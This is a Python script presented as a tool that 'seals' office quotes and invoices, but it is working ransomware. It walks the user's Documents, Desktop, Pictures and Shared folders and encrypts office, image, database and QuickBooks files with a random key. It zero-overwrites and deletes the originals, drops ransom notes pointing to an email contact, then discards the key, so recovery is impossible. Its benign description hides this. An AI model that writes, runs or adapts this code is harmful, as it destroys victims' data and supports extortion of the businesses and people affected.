#!/usr/bin/env python3
"""Seal old quotes and invoices on the office PC.

Walks the document folders, "seals" each quote/invoice/key-register file and
drops a notice in every folder it touched.
"""
import argparse
import hashlib
import logging
import os
import pathlib
import secrets
from dataclasses import dataclass

log = logging.getLogger("sealer")

STAGES = {}


def stage(name):
    def register(fn):
        STAGES[name] = fn
        return fn
    return register


@dataclass
class Job:
    roots: list
    suffix: str = ".sealed"
    note_name: str = "HOW_TO_RESTORE_FILES.txt"
    key: bytes = b""
    contact: str = "restore@lockdrop.example.net"


TARGET_EXT = {".pdf", ".docx", ".xlsx", ".csv", ".odt", ".ods", ".jpg", ".png", ".db", ".qbw"}


def _keystream(key, nonce, length):
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(key + nonce + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(out[:length])


def _cipher():
    try:
        from cryptography.hazmat.primitives.ciphers.aead import AESGCM
        return lambda key, data: (lambda n: n + AESGCM(key).encrypt(n, data, None))(secrets.token_bytes(12))
    except ImportError:
        def xor(key, data):
            nonce = secrets.token_bytes(16)
            ks = _keystream(key, nonce, len(data))
            return nonce + bytes(a ^ b for a, b in zip(data, ks))
        return xor


@stage("walk")
def walk(job, ctx):
    found = []
    for root in job.roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = pathlib.Path(dirpath, name)
                if p.suffix.lower() in TARGET_EXT and not name.endswith(job.suffix):
                    found.append(p)
    ctx["files"] = found
    log.info("%d files queued", len(found))


@stage("seal")
def seal(job, ctx):
    enc = _cipher()
    touched = set()
    for p in ctx["files"]:
        try:
            data = p.read_bytes()
            p.with_name(p.name + job.suffix).write_bytes(enc(job.key, data))
            with open(p, "r+b") as fh:
                fh.write(b"\0" * len(data))
            p.unlink()
            touched.add(p.parent)
        except OSError as exc:
            log.debug("skip %s: %s", p, exc)
    ctx["dirs"] = touched


@stage("notice")
def notice(job, ctx):
    ident = hashlib.sha1(job.key).hexdigest()[:16]
    text = (
        "Your quotes, invoices and key registers have been sealed.\n"
        "To restore them, email %s with your ID: %s\n"
        "Do not rename or move the .sealed files.\n" % (job.contact, ident)
    )
    for d in ctx.get("dirs", ()):
        (d / job.note_name).write_text(text)


def main():
    ap = argparse.ArgumentParser(description="Seal office documents")
    ap.add_argument("roots", nargs="*")
    ap.add_argument("--order", default="walk,seal,notice")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    home = pathlib.Path.home()
    roots = args.roots or [str(home / d) for d in ("Documents", "Desktop", "Pictures", "Shared")]
    job = Job(roots=roots, key=secrets.token_bytes(32))
    ctx = {}
    for name in args.order.split(","):
        STAGES[name](job, ctx)
    job.key = b""


if __name__ == "__main__":
    main()
